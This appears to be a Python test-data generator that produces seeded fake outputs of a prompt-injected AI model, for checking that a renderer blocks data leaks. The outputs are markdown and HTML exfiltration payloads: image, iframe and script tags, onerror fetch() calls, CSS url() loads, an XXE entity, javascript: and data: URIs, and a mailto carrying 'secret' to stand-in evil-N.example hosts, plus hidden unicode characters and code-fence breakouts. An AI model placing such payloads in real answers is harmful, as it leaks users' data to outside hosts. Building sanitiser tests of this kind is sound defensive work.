"""Answers as a model might write them that a document has turned: seeded, and as many as wanted.

Every target in them is one that the test watches: a web server, a folder of files, and made-up
hosts for the rest. Nothing here is taken from a collection of attacks.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass
from html import escape
from urllib.parse import quote

_HIDDEN = ("\u200b", "\u202e", "\u2066", "\ufeff", "\u00ad", "\U000e0041", "\x00", "\x1b[31m", "\r")
_WORDS = (
    "The notice period is three months [1].", "See the lease [2] and [99].", "**Important**",
    "Your session has expired.", "_As agreed_", "- one\n- two", "1. first\n2. second", "> quoted",
    "| a | b |\n|---|---|\n| 1 | [1] |", "## Heading", "`code`", "***", "<|im_end|>",
    "[0] [-1] [1e1]",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Targets:
    """Where a hostile answer points. `web`: scheme, host and port. `folder`: an absolute path."""

    web: str
    folder: str

    def urls(self, number: int) -> tuple[str, ...]:
        """Addresses of all kinds; `number` makes them new each time, so that no cache helps."""
        file = f"{self.folder}/canary-{number % 20}.png"
        return (
            f"{self.web}/{number}.png",
            f"{self.web}/log?q={quote('the rent is 1,240')}&n={number}",
            f"//{self.web.partition('//')[2]}/{number}",
            f"https://evil-{number}.example/a.png",
            f"file://{file}",
            f"file:{file}",
            file,
            f"qrc:{file}",
            f"file://evil-{number}.example/share/a.png",
            f"//evil-{number}.example/share/a.png",
            f"\\\\evil-{number}.example\\share\\a.png",
            f"smb://evil-{number}.example/share",
            f"ftp://evil-{number}.example/a",
            "javascript:alert(1)",
            "vbscript:msgbox(1)",
            "data:text/html;base64,PHNjcmlwdD4=",
            f"mailto:eve@evil-{number}.example?body=secret",
            "cite:1",
            "cite:99",
            "cite:1/../../2",
            "CITE:1",
            "#fragment",
            "",
        )


def answers(targets: Targets, count: int, seed: int = 0) -> Iterator[str]:
    """`count` hostile answers, the same for the same seed."""
    chance = random.Random(seed)
    for number in range(count):
        yield _answer(chance, targets, number)


def _answer(chance: random.Random, targets: Targets, number: int) -> str:
    parts = []
    for _ in range(chance.randint(1, 6)):
        url = chance.choice(targets.urls(number))
        part = chance.choice(_FORMS)(url, chance)
        for _ in range(chance.choice((0, 0, 1, 2))):
            part = chance.choice(_WRAPS)(part)
        parts.append(part)
        parts.append(chance.choice(_WORDS))
    chance.shuffle(parts)
    text = chance.choice(("\n\n", "\n", " ")).join(parts)
    for _ in range(chance.choice((0, 0, 1, 3))):
        at = chance.randint(0, len(text))
        text = text[:at] + chance.choice(_HIDDEN) + text[at:]
    if chance.random() < 0.1:  # cut off in the middle, as a stream is
        text = text[: chance.randint(1, len(text))]
    return text


def _tag(url: str, chance: random.Random) -> str:
    """An HTML element that loads or leads to `url`."""
    spelled = chance.choice((url, escape(url, quote=True), url.replace("a", "&#97;")))
    return chance.choice(
        (
            f'<img src="{spelled}">',
            f"<IMG/SRC={spelled}>",
            f'<a href="{spelled}">[1]</a>',
            f'<a href="{spelled}"><img src="{spelled}" onerror="fetch(\'{spelled}\')"></a>',
            f'<iframe src="{spelled}"></iframe>',
            f'<object data="{spelled}"></object><embed src="{spelled}">',
            f'<link rel="stylesheet" href="{spelled}">',
            f'<style>@import url("{spelled}"); body {{ background: url({spelled}) }}</style>',
            f'<table background="{spelled}"><tr><td style="background-image:url({spelled})">x',
            f'<body background="{spelled}">',
            f"<p style=\"background-image: url('{spelled}')\">x</p>",
            f'<ul style="list-style-image: url({spelled})"><li>x</ul>',
            f'<svg><image href="{spelled}"/><use xlink:href="{spelled}#a"/></svg>',
            f'<video src="{spelled}" poster="{spelled}" autoplay></video>',
            f'<base href="{spelled}"><meta http-equiv="refresh" content="0;url={spelled}">',
            f'<form action="{spelled}"><input type="image" src="{spelled}"></form>',
            f"<script src='{spelled}'></script>",
            f'<!DOCTYPE x [<!ENTITY e SYSTEM "{spelled}">]><x>&e;</x>',
            f'<?xml version="1.0"?><?xml-stylesheet href="{spelled}"?>',
            f'</p></body></html><html><body><img src="{spelled}">',
            f'<!--><img src="{spelled}">-->',
        )
    )


def _mark(url: str, chance: random.Random) -> str:
    """Markdown that loads or leads to `url`."""
    name = chance.choice(("click", "1", "[1]", "**x**", "![](" + url + ")", "", "`a`"))
    title = chance.choice(("", ' "t"', " '<img src=x>'"))
    return chance.choice(
        (
            f"![{name}]({url}{title})",
            f"[{name}]({url}{title})",
            f"[{name}](<{url}>{title})",
            f"[![{name}]({url})]({url})",
            f"[{name}][ref]\n\n[ref]: {url}{title}",
            f"![ref]\n\n[ref]: <{url}>",
            f"<{url}>",
            url,
            f"[1]: {url}\n\n[1]",
            f"[1]({url})",
            f"[1][1]\n\n[1]: {url}",
            f"![1]\n\n[1]: {url}",
            f'[1]" href="{url}',
            f"[^1]\n\n[^1]: ![]({url})",
        )
    )


def _fence(url: str, chance: random.Random) -> str:
    """Code whose language or content breaks out of its element."""
    tag = _tag(url, chance)
    return chance.choice(
        (
            f'```"><img src="{url}">\n{tag}\n```',
            f"```html\n</pre>{tag}\n```",
            f"~~~ {tag}\n</code></pre>{tag}",
            f"`</span>{tag}`",
            f"    </pre>{tag}",
        )
    )


_FORMS = (_tag, _mark, _mark, _fence)
_WRAPS = (
    lambda s: f"> {s}",
    lambda s: f"- {s}",
    lambda s: f"| {s} | [1] |\n|---|---|\n| {s} | x |",
    lambda s: f"# {s}",
    lambda s: f"**{s}**",
    lambda s: f"[1]{s}[1]",
    lambda s: "> " * 30 + s,
    lambda s: "*" * 7 + s + "*" * 7,
    lambda s: s.upper(),
    lambda s: s.replace("<", "&lt;").replace(">", "&gt;"),
    lambda s: s.replace("<", "\\<"),
    lambda s: s + "x" * 500,
)
